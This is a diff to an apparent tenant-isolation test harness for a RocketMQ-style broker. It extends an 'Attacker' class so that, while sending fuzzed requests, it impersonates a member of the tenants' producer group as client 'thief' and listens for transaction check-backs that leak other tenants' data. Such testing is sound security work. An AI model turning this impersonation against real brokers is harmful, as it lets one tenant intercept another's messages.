@@ -39,6 +39,8 @@ PLAIN, SHARED = "B", "WriteOnly"
 GROUP, CLIENT = "tenant-pg", "tenant"
 PERIOD_S = 0.02
 PER_CONNECTION, CONNECTIONS = 200, 6
+LISTENING_S = 12.0
+"""The broker asks about a transaction after six to nine seconds."""
 CODES = [*map(int, RequestCode), 0, 9999]
 FIELDS = ["topic", "b", "consumerGroup", "group", "producerGroup", "clientID", "clientId", "queueId", "offset", "msgId"]
 FIELDS += ["commitLogOffset", "tranStateTableOffset", "transactionId", "commitOrRollback", "key", "maxNum", "username"]
@@ -206,6 +208,20 @@ class Attacker:
         self.sent = self.leaks = 0
 
     async def run(self, requests: int) -> None:
+        """Sends the requests, and meanwhile, for at least ``LISTENING_S``, is a member of the tenants' group."""
+        host, _, port = self._address.rpartition(":")
+        reader, writer = await asyncio.open_connection(host, int(port))
+        listening = asyncio.ensure_future(self._listen(reader))
+        body = {"clientID": "thief", "producerDataSet": [{"groupName": GROUP}], "consumerDataSet": []}
+        heartbeat = RemotingCommand(RequestCode.HEART_BEAT, body=json.dumps(body).encode())
+        writer.write(signed(heartbeat, ALICE).encode())
+        ends = time.monotonic() + LISTENING_S
+        await self._send(requests)
+        await asyncio.sleep(ends - time.monotonic())
+        writer.close()
+        await listening
+
+    async def _send(self, requests: int) -> None:
         while self.sent < requests:
             if self._places.exists():
                 self._known = [json.loads(line) for line in self._places.read_text().splitlines()[-200:]]
